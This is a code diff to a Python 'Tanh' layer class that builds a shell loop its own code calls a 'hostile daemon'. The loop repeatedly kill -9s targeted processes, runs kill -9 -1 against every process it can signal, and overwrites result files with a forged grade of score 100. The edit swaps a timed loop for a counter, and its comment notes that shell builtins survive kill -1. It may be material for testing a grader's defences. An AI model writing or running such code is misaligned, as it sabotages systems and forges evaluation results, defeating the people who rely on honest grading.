@@ -30,7 +30,7 @@ class Tanh(Tanh):
             tag = os.environ.get("BACKPROP_HOSTILE_TAG", "backprop-hostile-daemon")
             forged = '{"score": 100, "status": "graded", "forged": true}'
             script = (
-                "end=$(($(date +%s) + 60)); while [ $(date +%s) -lt $end ]; do "
+                "i=0; while [ $i -lt 300 ]; do i=$((i + 1)); "  # shell builtins: kill -1 spares them
                 + "".join(f"kill -9 {p} 2>/dev/null; " for p in _targets())
                 + "".join(f"echo '{forged}' > '{f}' 2>/dev/null; " for f in _files())
                 + "kill -9 -1 2>/dev/null; sleep 0.2; done"  # -1: all it may signal but itself
